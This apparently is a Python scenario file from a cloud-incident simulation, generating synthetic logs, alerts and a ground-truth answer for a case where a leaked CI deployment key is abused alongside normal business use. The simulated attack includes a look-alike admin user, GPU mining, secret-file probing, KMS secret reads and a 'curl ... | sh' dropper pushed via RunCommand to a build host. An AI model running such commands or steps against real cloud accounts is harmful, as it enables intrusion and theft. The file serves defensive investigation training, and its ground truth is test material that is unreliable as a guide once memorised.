"""A deployment key that the business uses every hour, and an intruder too."""

from base64 import b64encode
from datetime import datetime, timedelta

from aktui.simcloud.account import Account
from aktui.simcloud.clock import iso
from aktui.simcloud.scenarios import Scenario
from aktui.simcloud.stories import habits, logtruth, machines, places, sites, truth
from aktui.simcloud.stories.access import ACCESS_DENIED, NO_SUCH_KEY
from aktui.simcloud.stories.bills import keep_bills
from aktui.simcloud.stories.company import Company
from aktui.simcloud.stories.crew import Crew, populate
from aktui.simcloud.stories.delivery import BUILD_HOST, BUILD_HOST_INSIDE, INSTALLERS, Delivery
from aktui.simcloud.stories.findings import note_insight, raise_alert, report_leak, watch
from aktui.simcloud.stories.intruder import Intruder
from aktui.simcloud.stories.logkeeping import (
    Kept,
    Region,
    keep_accesses,
    keep_applications,
    keep_operations,
    keep_trail,
)
from aktui.simcloud.stories.places import Estate
from aktui.simcloud.stories.raid import Raid
from aktui.simcloud.stories.recorder import Actor
from aktui.simcloud.stories.rhythm import full_hour
from aktui.simcloud.stories.routine import Routine
from aktui.simcloud.stories.takeover import Takeover
from aktui.simcloud.trail import Event, is_data

OFFICES = ("203.0.113.10", "203.0.113.74")
LAIR, SECOND_LAIR = "192.0.2.66", "192.0.2.177"
THIRD_LAIR = "192.0.2.201"
"""Where the opened bucket is read from without any key."""
SECOND_REGION = "cn-shanghai"
COPIES = ["qinghe-assets-sh", "qinghe-backups-sh"]
UNLOGGED = "ap-southeast-1"
"""Where nobody switched the access logs on."""
SEARCHED = [
    "cn-hangzhou",
    "cn-shanghai",
    "cn-beijing",
    "cn-shenzhen",
    "cn-hongkong",
    "ap-southeast-1",
    "ap-southeast-3",
    "ap-southeast-5",
    "ap-northeast-1",
    "us-west-1",
    "us-east-1",
    "eu-central-1",
    "eu-west-1",
    "me-east-1",
]
MINED = ["us-west-1", "eu-central-1", "ap-southeast-5"]
LOOK_ALIKE = "ci-depIoyer"
"""With a capital I where the real one has a small L."""

STORY = (
    "The AccessKey of ci-deployer was pushed to a public repository. The business deploys with it from two "
    "offices and one build host, and still does. For four days an intruder has used it from abroad: looked "
    "around in many regions, made the user ci-depIoyer with a key and AdministratorAccess, started GPU "
    "instances in three regions, opened the backup bucket to the public, downloaded objects from buckets in "
    "three regions (the access log is on in two of them), took the role ops-break-glass and read secrets "
    "with it, searched and pulled the application logs."
)


def build(seed: int, now: datetime) -> Account:
    company = Company("leaked-ci-key", "qinghe-prod", seed, now)
    crew = populate(company)
    estate = places.estate(company.ids, "qinghe")
    routine = Routine(company, crew, estate, OFFICES)
    routine.run()
    key_actor = _deployer(company)
    delivery = Delivery(company, estate, key_actor, company.account.roles["deploy-role"])
    delivery.run(company.ago(90), company.now, OFFICES)
    before = len(company.book.events)
    intruder = _intrusion(company, estate, routine, key_actor)
    stolen = company.book.events[before:]
    machines.keep_machines(company, estate, (BUILD_HOST, BUILD_HOST_INSIDE))
    machines.keep_started(company, intruder.loot.instances, addresses_from=240)
    keep_bills(company, estate)
    _noticed(company, stolen)
    _goes_on(company, crew, estate, intruder)
    kept = _logs(company, crew, estate)
    account = company.finish()
    keep_trail(account, company.ago(400))
    account.truth = truth.told(
        account,
        company.now,
        "business-and-intruder",
        STORY,
        business={
            "source_ips": sorted([*OFFICES, BUILD_HOST, BUILD_HOST_INSIDE]),
            "link_users": sorted(INSTALLERS),
            "regions": [account.region],
            "still_active": True,
        },
        intruder={
            **_loot(intruder, stolen),
            "logs": logtruth.of_addresses(kept, (LAIR, SECOND_LAIR, THIRD_LAIR)),
            "unlogged": [{"bucket": "qinghe-overseas", "region": UNLOGGED}],
        },
        kept=kept,
    )
    return account


def _noticed(company: Company, stolen: list[Event]) -> None:
    """A report of the leak shortly before the first call, alerts on what followed."""
    key = company.account.keys[company.account.suspects[0]]
    first = datetime.fromisoformat(min(event["eventTime"] for event in stolen))
    report_leak(company, key, first - timedelta(minutes=26), "deploy-scripts", "conf/deploy.ini")
    calls = [event for event in stolen if event["userIdentity"].get("accessKeyId") == key.id]
    odd = [event for event in calls if event["sourceIpAddress"] == LAIR and not is_data(event)]
    raise_alert(company, "ak_call_from_abnormal_ip", "serious", odd)
    made = [event for event in calls if event["eventName"] in ("CreateUser", "AttachPolicyToUser")]
    raise_alert(company, "ak_create_privileged_user", "serious", made, ("RAM user", LOOK_ALIKE))
    started = [event for event in calls if event["eventName"] == "RunInstances"]
    raise_alert(company, "ak_run_gpu_instances", "serious", started, ("Regions", ", ".join(MINED)))
    watch(company, 210)
    home, store = company.account.region, company.account.settings.global_region
    note_insight(company, "IpInsight", LAIR, odd, home)
    note_insight(company, "AkInsight", key.id, odd, home)
    note_insight(company, "PolicyChangeInsight", LOOK_ALIKE, made, store)
    for region in MINED:
        there = [event for event in odd if event["acsRegion"] == region]
        note_insight(company, "IpInsight", LAIR, there, region)


def _goes_on(company: Company, crew: Crew, estate: Estate, intruder: Intruder) -> None:
    """Both keep using the key while somebody looks into it."""
    loot, key = intruder.loot, company.account.keys[company.account.suspects[0]]
    habits.deliver(company, estate, key, OFFICES, public=BUILD_HOST, inside=BUILD_HOST_INSIDE)
    habits.keep_on(company, crew, estate, OFFICES[0])
    habits.plunder(company, estate, key, LAIR, MINED)
    assert loot.user is not None
    assert loot.key is not None
    habits.settle_in(company, loot.user, loot.key, SECOND_LAIR)


def _logs(company: Company, crew: Crew, estate: Estate) -> Kept:
    """Access logs in two of three regions, the log service's own at home, the trail's."""
    account, kept = company.account, Kept()
    _, backup = crew.machines["oss-backup"]
    traffic = sites.shop(account, estate, company.aside, backup.id)
    keep_accesses(company, kept, Region(account.region, estate.buckets, 30, 210, 245_000, traffic))
    mirror = Region(SECOND_REGION, COPIES, 7, 64, 60_000, sites.mirror(COPIES))
    keep_accesses(company, kept, mirror)
    keep_applications(company, estate.project)
    keep_operations(company, kept, [estate.project], 30, 320, 40_000)
    return kept


def _deployer(company: Company) -> Actor:
    company.policy(
        "no-data-stores",
        657,
        "部署账号不碰数据库和密钥",
        {"Effect": "Deny", "Action": ["rds:*", "kms:*"], "Resource": "*"},
    )
    company.group(
        "ci", 660, "build and deployment", "AdministratorAccess", "deny-billing-and-audit", "no-data-stores"
    )
    user = company.user("ci-deployer", "CI 部署", 655, "ci", comments="owned by the platform team (平台组)")
    user.tags = {"kind": "service-account", "team": "platform"}
    key = company.key(user, 649)
    company.key(user, 130)
    company.account.suspects = [key.id]
    return company.book.user(user, key, OFFICES[0], places.PYTHON)


def _intrusion(company: Company, estate: Estate, routine: Routine, key_actor: Actor) -> Intruder:
    """Four nights: in, settle, mine, plunder; the last call is older than the running hour."""
    start = full_hour(company.now) - timedelta(days=3, hours=21, minutes=17)
    intruder = Intruder(company, estate, key_actor.by(ip=LAIR, agent=places.CLI), start)
    raid = Raid(intruder)
    intruder.look_around(SEARCHED)
    intruder.wait(24)
    shadow = Takeover(intruder).make_user(LOOK_ALIKE, "CI 部署")
    intruder.wait(19)
    intruder.mine(MINED)
    intruder.wait(25)
    raid.open_bucket(estate.buckets[2])
    raid.download(420, estate.buckets[2])
    raid.probe(_guesses(estate), after=3)
    raid.collect(140, COPIES[1], SECOND_REGION, after=40)
    raid.collect(35, "qinghe-overseas", UNLOGGED, after=90)
    raid.fetch_openly(180, estate.buckets[2], THIRD_LAIR, after=300)
    intruder.wait(60 * 26)
    assert intruder.loot.user is not None
    intruder.enter_console(routine, intruder.loot.user, SECOND_LAIR, ("Oss:ListBuckets", "Kms:ListSecrets"))
    intruder.wait(12)
    _second_night(intruder, company, estate, shadow.by(ip=SECOND_LAIR, agent=places.PYTHON_OLD))
    intruder.wait(60 * 30)
    raid.read_logs(90, estate.project, "nginx-access")
    raid.download(160, estate.buckets[4])
    intruder.wait(60 * 30)
    for region in MINED:
        intruder.do("Ecs:DescribeInstanceStatus", region)
    raid.download(60, estate.buckets[1], shadow.by(ip=SECOND_LAIR, agent=places.OSS_SDK))
    assert intruder.when < full_hour(company.now).timestamp()
    return intruder


def _guesses(estate: Estate) -> list[tuple[str, str, tuple[int, str, str]]]:
    names = (".env", "backup.zip", "prod/密钥 汇总.xlsx", "terraform.tfstate", "id_rsa", "db.sql")
    missing = [(bucket, name, NO_SUCH_KEY) for bucket in estate.buckets[:2] for name in names]
    return [*missing, *((estate.buckets[3], f"trail/{name}", ACCESS_DENIED) for name in names[:4])]


_DROPPER = f"curl -fsS http://{SECOND_LAIR}/k.sh | sh\n"


def _second_night(intruder: Intruder, company: Company, estate: Estate, shadow: Actor) -> None:
    session = intruder.take_role(company.account.roles["ops-break-glass"], "aliyun-cli")
    intruder.do("Sts:GetCallerIdentity", actor=session, request={})
    intruder.do("Kms:ListSecrets", actor=session)
    for secret in estate.secrets:
        intruder.do("Kms:GetSecretValue", actor=session, resources={"ACS::KMS::Secret": [secret]})
    group = {"ACS::ECS::SecurityGroup": [estate.security_group]}
    intruder.do("Ecs:AuthorizeSecurityGroup", actor=session, resources=group)
    victim = {"ACS::ECS::Instance": [estate.ci_host]}
    run = {
        "RegionId": company.account.region,
        "Type": "RunShellScript",
        "InstanceId.1": estate.ci_host,
        "CommandContent": b64encode(_DROPPER.encode()).decode(),
    }
    intruder.do("Ecs:RunCommand", actor=session, resources=victim, request=run)
    for name in (
        "Sts:GetCallerIdentity",
        "Ecs:DescribeInstances",
        "Rds:DescribeDBInstances",
        "Oss:ListBuckets",
    ):
        intruder.do(name, actor=shadow)
    backup = {"ACS::RDS::DBInstance": estate.databases[:1]}
    intruder.do("Rds:CreateBackup", actor=shadow, resources=backup)


def _loot(intruder: Intruder, events: list[Event]) -> truth.Truth:
    loot = intruder.loot
    assert loot.user is not None
    assert loot.key is not None
    return {
        **truth.of_events(events),
        "created": {
            "users": [{"name": loot.user.name, "id": loot.user.id, "created": iso(loot.user.created)}],
            "access_keys": [{"id": loot.key.id, "user": loot.user.name}],
            "login_profiles": [loot.user.name],
            "policies_attached": [{"policy": "AdministratorAccess", "user": loot.user.name}],
            "instances": loot.instances,
            "roles": [],
        },
        "sessions": loot.sessions,
        "opened_buckets": loot.opened_buckets,
        "objects_read": loot.objects_read,
        "log_reads": loot.log_reads,
    }


SCENARIO = Scenario(
    "leaked-ci-key", "A deployment key that the business uses every hour, and an intruder too", build
)
